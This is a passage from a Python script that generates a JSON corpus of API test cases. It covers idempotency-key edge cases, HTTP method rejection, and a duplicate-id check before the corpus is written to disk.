            headers={**JSON_HEADERS, "Idempotency-Key": "k" * 65},
            body=as_json(lead(first_name="Wren")),
        )
    )
    add(
        entry(
            "key-unicode",
            "idempotency",
            "reject",
            status=422,
            headers={**JSON_HEADERS, "Idempotency-Key": "kl\u00e9-12345678"},
            body=as_json(lead(first_name="Wren")),
        )
    )
    add(
        entry(
            "key-header-and-field-differ",
            "idempotency",
            "either",
            headers={**JSON_HEADERS, "Idempotency-Key": "corpus-key-000001"},
            body=as_json(lead(first_name="Wren", submission_id="corpus-key-000002")),
        )
    )
    for method in ("GET", "PUT", "DELETE", "PATCH"):
        add(entry(f"method-{method.lower()}", "method", "reject", method=method, body=as_json(lead())))
    return entries


_SECTIONS = (
    _valid,
    _injection,
    _nosql_operators,
    _header_injection,
    _unicode,
    _oversize,
    _wrong_types,
    _odd_encodings,
    _content_types,
    _duplicate_keys,
    _origins_methods_keys,
)


def render() -> str:
    entries = build()
    ids = [item["id"] for item in entries]
    duplicates = {i for i in ids if ids.count(i) > 1}
    if duplicates:
        raise ValueError(f"duplicate ids: {sorted(duplicates)}")
    return json.dumps({"version": 1, "entries": entries}, indent=1, ensure_ascii=True) + "\n"


if __name__ == "__main__":
    CORPUS_PATH.write_text(render(), encoding="utf-8")
    print(f"wrote {len(build())} entries to {CORPUS_PATH}")
